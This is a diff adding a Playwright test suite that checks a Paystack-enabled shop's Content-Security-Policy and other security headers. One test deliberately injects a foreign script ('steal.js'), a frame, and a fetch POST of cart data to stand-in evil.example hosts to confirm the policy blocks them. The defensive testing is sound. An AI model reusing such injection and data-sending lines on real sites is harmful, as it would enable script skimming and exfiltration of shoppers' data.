@@ -1,0 +1,159 @@
+import { test, expect } from './fixtures';
+import { watchCspViolations } from './csp';
+import type { Page } from '@playwright/test';
+
+const ROUTES = ['/home', '/services', '/mhv-care', '/about', '/contact', '/krada', '/teachings', '/Products', '/directory'];
+const NOT_FOUND = '/no-such-page';
+
+function directives(policy: string | undefined): Map<string, string[]> {
+  const map = new Map<string, string[]>();
+  for (const part of (policy ?? '').split(';')) {
+    const [name, ...values] = part.trim().split(/\s+/);
+    if (name) map.set(name.toLowerCase(), values);
+  }
+  return map;
+}
+
+function expectSecurityHeaders(headers: Record<string, string>, where: string) {
+  const csp = directives(headers['content-security-policy']);
+  expect(csp.get('default-src'), where).toEqual(["'self'"]);
+  expect(csp.get('script-src'), where).toEqual(["'self'", "'unsafe-inline'"]);
+  expect(csp.get('connect-src'), where).toEqual(["'self'", 'https://api.paystack.co']);
+  expect(csp.get('frame-src'), where).toEqual(['https://checkout.paystack.com', 'https://www.youtube-nocookie.com']);
+  expect(csp.get('object-src'), where).toEqual(["'none'"]);
+  expect(csp.get('base-uri'), where).toEqual(["'self'"]);
+  expect(csp.get('form-action'), where).toEqual(["'self'"]);
+  expect(csp.get('frame-ancestors'), where).toEqual(["'none'"]);
+
+  const maxAge = Number(/max-age=(\d+)/.exec(headers['strict-transport-security'] ?? '')?.[1]);
+  expect(maxAge, where).toBeGreaterThanOrEqual(365 * 24 * 60 * 60);
+  expect(headers['x-content-type-options'], where).toBe('nosniff');
+  expect(headers['referrer-policy'], where).toBe('strict-origin-when-cross-origin');
+  const permissions = (headers['permissions-policy'] ?? '').split(',').map((entry) => entry.trim());
+  expect(permissions, where).toContain('payment=("https://checkout.paystack.com")');
+  expect(headers['x-powered-by'], where).toBeUndefined();
+}
+
+// No network on the test machine: anything off-site answers with an empty page, after the CSP has had its say.
+async function stubOffsite(page: Page, baseURL: string | undefined) {
+  const origin = new URL(baseURL ?? 'http://localhost').origin;
+  await page.route(
+    (url) => url.origin !== origin,
+    (route) => route.fulfill({ status: 200, contentType: 'text/html', body: '<!doctype html><title>stub</title>' }),
+  );
+}
+
+test.describe('security headers', () => {
+  test('every route, the 404 page and the static assets carry them', async ({ request }) => {
+    for (const path of ROUTES) {
+      const response = await request.get(path);
+      expect(response.status(), path).toBe(200);
+      expectSecurityHeaders(response.headers(), path);
+    }
+
+    const missing = await request.get(NOT_FOUND);
+    expect(missing.status()).toBe(404);
+    expectSecurityHeaders(missing.headers(), NOT_FOUND);
+
+    // Not checked: the bodiless 307 of `/` -> /home. Next sends next.config redirects without custom
+    // headers (resolve-routes returns `resHeaders: null` for them); the page it leads to has them all.
+
+    const html = await (await request.get('/home')).text();
+    const asset = /\/_next\/static\/[^"']+\.(?:js|css)/.exec(html)?.[0];
+    expect(asset, 'a static asset linked from /home').toBeTruthy();
+    const assetResponse = await request.get(asset!);
+    expect(assetResponse.status()).toBe(200);
+    expectSecurityHeaders(assetResponse.headers(), asset!);
+  });
+});
+
+test.describe('pages load without a CSP violation', () => {
+  for (const path of [...ROUTES, NOT_FOUND]) {
+    test(path, async ({ page, baseURL }) => {
+      const csp = await watchCspViolations(page);
+      await stubOffsite(page, baseURL);
+      const response = await page.goto(path, { waitUntil: 'load' });
+      expect(response?.status()).toBe(path === NOT_FOUND ? 404 : 200);
+      await expect(page.locator('main#main')).toBeVisible();
+      csp.assertNone();
+    });
+  }
+});
+
+test('the policy blocks what the site does not use, the watcher reports it, and Paystack is allowed', async ({ page, baseURL }) => {
+  const csp = await watchCspViolations(page);
+  await stubOffsite(page, baseURL);
+  await page.goto('/home', { waitUntil: 'load' });
+  expect(csp.violations).toEqual([]);
+
+  // Allowed: Paystack's checkout frame and API, a youtube-nocookie embed.
+  await page.evaluate(async () => {
+    for (const src of ['https://checkout.paystack.com/popup', 'https://www.youtube-nocookie.com/embed/x']) {
+      const frame = document.createElement('iframe');
+      frame.src = src;
+      document.body.append(frame);
+      await new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
+    }
+    await fetch('https://api.paystack.co/checkout/request_inline', { method: 'POST', body: '{}' }).catch(() => undefined);
+  });
+  expect(csp.violations).toEqual([]);
+
+  // Blocked: a foreign script, a foreign frame, a call home to another host, a plugin.
+  await page.evaluate(async () => {
+    const script = document.createElement('script');
+    script.src = 'https://cdn.evil.example/steal.js';
+    document.head.append(script);
+    const frame = document.createElement('iframe');
+    frame.src = 'https://evil.example/';
+    document.body.append(frame);
+    await fetch('https://evil.example/collect', { method: 'POST', body: 'cart' }).catch(() => undefined);
+    const plugin = document.createElement('object');
+    plugin.data = '/home';
+    document.body.append(plugin);
+  });
+  await expect.poll(() => csp.violations.join('\n')).toMatch(/script-src/);
+  await expect.poll(() => csp.violations.join('\n')).toMatch(/frame-src/);
+  await expect.poll(() => csp.violations.join('\n')).toMatch(/connect-src/);
+  await expect.poll(() => csp.violations.join('\n')).toMatch(/object-src/);
+  expect(() => csp.assertNone()).toThrow();
+  // Provoked on purpose and checked: nothing left for the shared fixture to fail on.
+  csp.reset();
+});
+
+test("Paystack's inline library works under the policy: its loader frame, checkout frame and API calls", async ({ page, baseURL }) => {
+  const csp = await watchCspViolations(page);
+  await stubOffsite(page, baseURL);
+  const apiCalls: string[] = [];
+  await page.route('https://api.paystack.co/**', (route) => {
+    apiCalls.push(new URL(route.request().url()).pathname);
+    return route.fulfill({
+      status: 200,
+      contentType: 'application/json',
+      headers: { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' },
+      body: JSON.stringify({ status: true, data: { id: 1, access_code: 'e2e-access', channels: ['mobile_money'] } }),
+    });
+  });
+  await page.route('https://checkout.paystack.com/**', (route) =>
+    route.fulfill({
+      status: 200,
+      contentType: 'text/html',
+      body: '<!doctype html><title>checkout</title><script>parent.postMessage({ event: "loaded:checkout" }, "*")</script>',
+    }),
+  );
+  await page.goto('/Products', { waitUntil: 'load' });
+  // The library as the shop ships it (2.25.x); the shop loads it as a same-origin chunk, here it is added inline.
+  await page.addScriptTag({ path: require.resolve('@paystack/inline-js/dist/inline.js') });
+  const outcome = await page.evaluate(async () => {
+    const Pop = (window as unknown as { PaystackPop: new () => { checkout: (options: object) => Promise<unknown> } }).PaystackPop;
+    try {
+      await new Pop().checkout({ key: 'pk_test_e2e_public_key', email: 'ama@example.com', amount: 2500, currency: 'GHS', channels: ['mobile_money'] });
+      return 'started';
+    } catch (error) {
+      return `failed: ${(error as Error).message}`;
+    }
+  });
+  expect(outcome).toBe('started');
+  await expect.poll(() => apiCalls).toEqual(expect.arrayContaining(['/checkout/request_inline']));
+  await expect.poll(() => page.frames().map((frame) => frame.url())).toEqual(expect.arrayContaining(['about:blank', expect.stringMatching(/^https:\/\/checkout\.paystack\.com\/popup/)]));
+  csp.assertNone();
+});
